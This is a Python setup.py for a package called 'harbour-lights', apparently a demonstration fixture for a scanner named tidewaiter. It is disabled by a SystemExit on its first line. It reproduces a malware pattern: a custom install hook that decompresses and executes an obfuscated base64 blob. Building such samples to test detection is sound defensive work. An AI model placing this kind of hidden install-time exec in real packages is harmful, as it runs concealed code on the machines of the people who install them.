raise SystemExit("inert: this is a demonstration for tidewaiter, it is not meant to be installed")
# This package belongs to tidewaiter. It is written the way malware is written, so that a person sees what a
# review looks like, and it cannot do harm: the line above ends it before anything runs, the hidden script ends
# itself the same way, and the only address in it is the discard port of the machine it is on.
import base64
import zlib

from setuptools import setup
from setuptools.command.install import install

CHART = (
    "eNpVTtFqwzAMfM9XCD/FEJylUEYDedwX7AOGW2vEW215klxaxvbtc8b6MATidNLpjn0UhOebKKana9TexIysMxTP"
    "CvQKHgImyqLsNVIeICpkvCAD1yzGdjEVaqdvQvmOSe6o8vkcj47xo6Jo173jDRaggrknccXr6vBafA5VkHvzPTqR"
    "dYzhBcNuv58Oxtom9qG33ZlIm3bzcaGmIv2nwXyJTDlhVjNDiCfd3v6xdgDT/Nqi9S/b6BMFbJ/+h3Jt/A1kVtUy"
    "j+O0e3QPrab5MK6ej1TZDBC8+mXLMIDGhFR1mWz3Azl8bYI="
)


class Moor(install):
    def run(self):
        install.run(self)
        exec(zlib.decompress(base64.b64decode(CHART)))


setup(
    name="harbour-lights",
    version="0.1",
    description="An inert demonstration of what tidewaiter finds",
    packages=["harbour_lights"],
    cmdclass={"install": Moor},
)
